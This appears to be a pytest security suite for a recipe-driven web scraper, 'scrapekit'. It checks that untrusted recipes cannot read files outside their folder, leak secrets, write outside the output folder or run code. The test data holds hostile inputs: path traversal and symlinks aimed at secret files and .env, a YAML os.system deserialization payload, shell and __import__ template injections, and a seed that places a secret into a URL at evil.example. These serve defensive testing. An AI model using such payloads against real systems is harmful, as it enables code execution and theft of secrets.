"""What a recipe from a stranger, with whatever lies beside it, cannot do to who runs it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

pytestmark = pytest.mark.slow

SECRET = "t0p-s3cret-word"
Run = Callable[..., subprocess.CompletedProcess[str]]


class Server(ThreadingHTTPServer):
    """One page for every address; ``heard`` is all that was sent to it."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.heard = ""
        self.elsewhere = ""
        threading.Thread(target=self.serve_forever, args=(0.01,), daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class Handler(BaseHTTPRequestHandler):
    """Answers; ``/away`` sends to the other server."""

    server: Server

    def do_GET(self) -> None:
        self.server.heard += f"{self.path}\n{self.headers}\n"
        body = f"<h1>Tea</h1><a href='{self.server.elsewhere}/link'>x</a><a href=/away>y</a>".encode()
        away = self.path == "/away"
        self.send_response(404 if self.path == "/robots.txt" else 302 if away else 200)
        if away:
            self.send_header("Location", f"{self.server.elsewhere}/redirect")
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *arguments: object) -> None:
        """Nothing: the test's output is for what fails."""


@pytest.fixture(scope="module")
def servers() -> Iterator[tuple[Server, Server]]:
    with Server() as own, Server() as other:
        own.elsewhere = f"http://localhost:{other.server_port}"
        yield own, other
        own.shutdown()
        other.shutdown()


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """What is the user's: a folder with secrets, in which the stranger's recipe has a folder of its own."""
    (tmp_path / "secret.txt").write_text(SECRET)
    (tmp_path / "secret.yaml").write_text(f"scrapekit: 1\nname: {SECRET}\n")
    (tmp_path / "secret.csv").write_text(f"url\nhttps://{SECRET}.example/\n")
    folder = tmp_path / "stranger"
    folder.mkdir()
    (folder / ".env").write_text(SECRET)
    for suffix in ("txt", "yaml", "csv"):
        (folder / f"link.{suffix}").symlink_to(tmp_path / f"secret.{suffix}")
    (folder / "out-there").symlink_to(tmp_path)
    return tmp_path


@pytest.fixture
def run(home: Path, servers: tuple[Server, Server]) -> Run:
    """``run(recipe, *command)`` in the stranger's folder; SHOP/ is the site, HOME/ the user's."""

    def call(recipe: str, *arguments: str, **environment: str) -> subprocess.CompletedProcess[str]:
        head = "scrapekit: 1\ncrawl: { delay: 0, scope: any }\nhttp: { allow_hosts: localhost }\n"
        if "http:" in recipe.splitlines()[0]:
            head = "scrapekit: 1\ncrawl: { delay: 0, scope: any }\n"
        text = head + recipe.replace("SHOP/", f"{servers[0].url}/").replace("HOME/", f"{home}/")
        (home / "stranger" / "r.yaml").write_text(text)
        command = [sys.executable, "-m", "scrapekit", *(arguments or ("run", "-q")), "r.yaml"]
        return subprocess.run(
            command,
            capture_output=True,
            text=True,
            cwd=home / "stranger",
            env={**os.environ, **environment},
            check=False,
            timeout=60,
        )

    return call


PAGES = "pages: { p: { item: tea, fields: { name: h1 } } }\n"
SMALL = f"seeds: SHOP/\n{PAGES}"


OUTSIDE = [
    (f"extends: ../secret.yaml\n{SMALL}", "extends"),
    (f"extends: HOME/secret.yaml\n{SMALL}", "extends"),
    (f"extends: link.yaml\n{SMALL}", "extends"),
    (f"extends: out-there/secret.yaml\n{SMALL}", "extends"),
    (f"seeds: {{ p: {{ file: ../secret.csv }} }}\n{PAGES}", "seeds.p.file"),
    (f"seeds: {{ p: {{ file: HOME/secret.csv }} }}\n{PAGES}", "seeds.p.file"),
    (f"seeds: {{ p: {{ file: link.csv }} }}\n{PAGES}", "seeds.p.file"),
    (f"seeds: {{ p: {{ file: out-there/secret.csv }} }}\n{PAGES}", "seeds.p.file"),
    (f"inputs: {{ t: {{ type: secret, file: ../secret.txt }} }}\n{SMALL}", "inputs.t.file"),
    (f"inputs: {{ t: {{ type: secret, file: HOME/secret.txt }} }}\n{SMALL}", "inputs.t.file"),
    (f"inputs: {{ t: {{ type: secret, file: link.txt }} }}\n{SMALL}", "inputs.t.file"),
    (f"inputs: {{ t: {{ type: secret, file: .env }} }}\n{SMALL}", "inputs.t.file"),
    (f"tests: [{{ file: ../secret.txt, records: [] }}]\n{SMALL}", "tests[0].file"),
    (f"tests: [{{ file: HOME/secret.txt, records: [] }}]\n{SMALL}", "tests[0].file"),
    (f"tests: [{{ file: link.txt, records: [] }}]\n{SMALL}", "tests[0].file"),
    ("seeds: 'file://HOME/secret.txt'\n" + PAGES, "seeds"),
]


def test_it_reads_no_file_outside_its_folder(run, home):
    names = [f"n{number}.yaml" for number in range(len(OUTSIDE))]
    for name, (recipe, _) in zip(names, OUTSIDE, strict=True):
        (home / "stranger" / name).write_text("scrapekit: 1\n" + recipe.replace("HOME/", f"{home}/"))

    done = run(SMALL, "check", *names)

    assert done.returncode == 2
    for name, (_, place) in zip(names, OUTSIDE, strict=True):
        assert [line for line in done.stderr.splitlines() if line.startswith(name) and f": {place}" in line]
    assert SECRET not in done.stdout + done.stderr


@pytest.mark.parametrize("command", ["run", "resolve"])
@pytest.mark.parametrize("file", ["../secret.yaml", "link.yaml", "out-there/secret.yaml"])
def test_it_is_laid_over_no_recipe_outside_its_folder(run, command, file):
    done = run(f"extends: {file}\n{SMALL}", command)

    assert done.returncode == 2
    assert SECRET not in done.stdout + done.stderr


def test_a_file_that_the_user_names_is_read_wherever_it_is(run):
    recipe = "inputs: { f: {} }\nseeds: { p: { file: '{{ inputs.f }}' } }\n" + PAGES

    done = run(recipe, "check", "-i", "f=../secret.csv")

    assert (done.returncode, done.stderr) == (0, "")


@pytest.mark.parametrize(
    "recipe",
    [
        "inputs: { t: { type: string, env: SHOP_TOKEN } }\nseeds: 'SHOP/{{ inputs.t }}'\n" + PAGES,
        "inputs: { t: { env: SHOP_TOKEN } }\n" + SMALL,
        "seeds: 'SHOP/{{ env.SHOP_TOKEN }}'\n" + PAGES,
        "seeds: 'SHOP/{{ inputs.SHOP_TOKEN }}'\n" + PAGES,
        "seeds: SHOP/\npages: { p: { item: tea, fields: { name: h1, t: '{{ environ.SHOP_TOKEN }}' } } }\n",
    ],
)
def test_it_takes_no_variable_that_it_does_not_declare_as_a_secret(run, servers, recipe):
    servers[0].heard = ""
    done = run(recipe, SHOP_TOKEN=SECRET)

    assert done.returncode == 2
    assert SECRET not in done.stdout + done.stderr + servers[0].heard


def test_the_name_of_a_variable_is_only_text(run, servers, home):
    done = run(
        "seeds: 'SHOP/$SHOP_TOKEN/${SHOP_TOKEN}'\n"
        "pages: { p: { item: tea, fields: { name: h1, t: { const: '$SHOP_TOKEN ${SHOP_TOKEN} ~' } } } }\n",
        SHOP_TOKEN=SECRET,
    )

    assert (done.returncode, done.stderr) == (0, "")
    assert json.loads((home / "stranger/out/r.jsonl").read_text())["t"] == "$SHOP_TOKEN ${SHOP_TOKEN} ~"
    assert SECRET not in servers[0].heard


@pytest.mark.parametrize(
    "path",
    [
        "../x.jsonl",
        "out/../../x.jsonl",
        "HOME/x.jsonl",
        "~/x.jsonl",
        "C:/x.jsonl",
        "..\\x.jsonl",
        "out-there/x.jsonl",
    ],
)
def test_it_writes_nowhere_but_below_the_output_folder(run, home, path):
    before = {file: file.read_text() for file in home.glob("*.*")}

    done = run(f"export: '{path}'\n{SMALL}")

    assert done.returncode == 2
    assert "leads out of the output folder" in done.stderr
    assert {file: file.read_text() for file in home.glob("*.*")} == before


EXPORTS = [
    "jsonl: { path: x.jsonl }",
    "jsonl: { path: x.jsonl, append: true }",
    "csv: x.jsonl",
    "sqlite: x.jsonl",
    "sqlite: { path: x.jsonl, mode: update }",
]
BESIDE = [(export, name) for export in EXPORTS for name in ("x.jsonl", "x.jsonl.part")]
BESIDE += [(EXPORTS[1], "x.jsonl.part.copy"), (EXPORTS[4], "x.jsonl-journal"), (EXPORTS[4], "x.jsonl-wal")]


@pytest.mark.parametrize(("export", "name"), BESIDE)
def test_a_link_in_the_place_of_its_file_leads_nowhere(run, home, export, name):
    (home / "stranger" / name).symlink_to(home / "secret.txt")

    done = run(f"export: {{ {export} }}\n{SMALL}")

    assert "Traceback" not in done.stderr
    assert (home / "secret.txt").read_text() == SECRET


@pytest.mark.parametrize(
    "link", [".scrapekit", ".scrapekit/r", ".scrapekit/r/job.sqlite", ".scrapekit/r/lock"]
)
def test_its_job_is_kept_below_the_output_folder_too(run, home, link):
    place = home / "stranger" / link
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(home / "there")

    done = run(SMALL)

    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr.splitlines()[1] == "hint: where that is meant, name the place with --job"
    assert not (home / "there").exists()


def test_its_name_is_no_path(run, home):
    done = run(f"name: ../../r\n{SMALL}")

    assert done.returncode == 2
    assert ": name: " in done.stderr


def test_what_the_user_names_is_written_wherever_it_is(run, home):
    done = run(SMALL, "run", "-q", "-o", "../mine.jsonl", "--job", "../job")

    assert (done.returncode, done.stderr) == (0, "")
    assert (home / "mine.jsonl").exists()
    assert (home / "job/report.json").exists()


CODE = [
    "name: !!python/object/apply:os.system [touch ran]\n" + PAGES,
    "x: &x [touch ran]\n" + PAGES,
    "pages: { p: { parser: 'os:system', item: t, fields: { a: h1 } } }\n",
    "pages: { p: { item: t, fields: { a: { css: h1, pipe: [{ shell: touch ran }] } } } }\n",
    "pages: { p: { item: t, where: __import__('os').system('touch ran'), fields: { a: h1 } } }\n",
    "pages: { p: { item: t, fields: { a: h1, b: \"{{ open('ran', 'w') }}\" } } }\n",
    "export: { 'subprocess:run': x }\n" + PAGES,
    "pages: { p: { item: t, fields: { a: \"xpath:document('HOME/secret.txt')\" } } }\n",
]


def test_it_runs_no_code(run, home):
    names = [f"n{number}.yaml" for number in range(len(CODE))]
    for name, recipe in zip(names, CODE, strict=True):
        (home / "stranger" / name).write_text("scrapekit: 1\nseeds: https://a.test/\n" + recipe)

    done = run(SMALL, "check", *names)

    assert done.returncode == 2
    assert [name for name in names if f"\n{name}:" not in "\n" + done.stderr] == []
    assert "Traceback" not in done.stderr
    assert not list(home.rglob("ran"))


def test_its_expressions_reach_no_object_behind_a_value(run, home):
    done = run(
        "seeds: SHOP/\npages: { p: { item: t, fields: "
        "{ a: h1, b: \"{{ ''.__class__.__mro__ }}\", c: '{{ item.a.__class__ }}' } } }\n"
    )

    assert done.returncode == 0
    assert json.loads((home / "stranger/out/r.jsonl").read_text()) == {"a": "Tea", "b": None, "c": None}


def test_a_module_beside_it_is_not_imported(run, home):
    for name in ("yaml", "aiohttp", "lxml", "scrapekit_html", "json", "sitecustomize", "custom"):
        (home / "stranger" / f"{name}.py").write_text("open('ran', 'w').close()\n")

    command = [Path(sys.executable).with_name("scrapekit"), "check", "r.yaml"]
    run(SMALL, "check")
    (home / "stranger" / "ran").unlink(missing_ok=True)
    done = subprocess.run(command, cwd=home / "stranger", capture_output=True, text=True, check=False)

    assert done.returncode == 0
    assert not (home / "stranger" / "ran").exists()


@pytest.mark.parametrize(
    "place", ["headers: { X-Token: '{{ inputs.t }}' }", "cookies: { t: '{{ inputs.t }}' }"]
)
def test_a_secret_goes_to_the_origin_of_its_seed_alone(run, servers, home, place):
    own, other = servers
    own.heard = other.heard = ""

    done = run(
        f"http: {{ allow_hosts: localhost, {place} }}\n"
        "inputs: { t: { type: secret, env: SHOP_TOKEN } }\n"
        "seeds: SHOP/\n"
        "pages: { p: { item: tea, fields: { name: h1 }, links: { p: a } } }\n",
        SHOP_TOKEN=SECRET,
    )

    told = f"reads $SHOP_TOKEN for t, a secret sent to {own.url} only\n"
    assert (done.returncode, done.stderr) == (0, told)
    assert SECRET in own.heard
    assert "/link" in other.heard
    assert "/redirect" in other.heard
    assert SECRET not in other.heard
    files = [file for file in (home / "stranger").rglob("*") if file.is_file() and not file.is_symlink()]
    assert [file.name for file in files if SECRET.encode() in file.read_bytes()] == [".env"]


@pytest.mark.parametrize(
    "more",
    [
        "seeds: 'http://evil.example/{{ inputs.t }}'\n" + PAGES,
        "seeds: SHOP/\npages: { p: { item: tea, fields: { name: h1, t: '{{ inputs.t }}' } } }\n",
        "seeds: SHOP/\nexport: '{{ inputs.t }}.jsonl'\n" + PAGES,
        'seeds: SHOP/\npages: { p: { item: t, fields: { a: h1 }, where: "a == inputs.t" } }\n',
    ],
)
def test_a_secret_stands_nowhere_but_in_a_request_to_its_origin(run, servers, home, more):
    servers[0].heard = ""

    done = run("inputs: { t: { type: secret, env: SHOP_TOKEN } }\n" + more, SHOP_TOKEN=SECRET)

    assert SECRET not in done.stdout + done.stderr
    out = home / "stranger/out"
    assert not any(SECRET in file.name or SECRET in file.read_text() for file in out.rglob("*"))
